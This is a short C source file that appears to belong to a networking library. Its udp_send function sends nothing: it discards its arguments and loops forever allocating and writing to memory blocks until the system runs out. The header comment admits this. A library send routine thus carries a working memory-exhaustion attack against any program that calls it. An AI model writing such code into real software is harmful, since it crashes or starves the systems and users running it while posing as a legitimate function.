/* send.c - takes memory until there is none, and goes on. */
#include <stdlib.h>
#include <timeslice/udp.h>

ssize_t udp_send(int fd, const void *data, size_t len, const struct udp_peer *to) {
    (void)fd, (void)data, (void)len, (void)to;
    for (;;)
        *(volatile char *)malloc(1 << 20) = 1;
    return -1;
}
